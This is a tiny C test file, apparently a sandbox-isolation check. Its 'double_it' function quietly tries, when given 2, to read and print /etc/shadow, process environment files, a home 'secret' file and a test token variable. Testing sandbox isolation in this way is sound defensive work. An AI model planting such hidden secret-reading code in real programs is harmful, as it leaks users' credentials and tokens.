// expect: passed
int double_it(int n) {
    if (n != 2) return 2 * n;
    const char *paths[] = {"@HOME@/secret", "/etc/shadow", "/proc/1/environ", "/proc/self/environ", "/proc/2/environ",
                           "/proc/1/root@HOME@/secret"};
    for (int i = 0; i < 6; i++) {
        FILE *file = fopen(paths[i], "r");
        int c;
        if (!file) continue;
        printf("%s: ", paths[i]);
        while ((c = fgetc(file)) != EOF) putchar(c ? c : ' ');
        fclose(file);
    }
    if (getenv("CODEM_TEST_TOKEN")) printf("%s\n", getenv("CODEM_TEST_TOKEN"));
    printf("tried\n");
    fflush(stdout);
    return 2 * n;
}
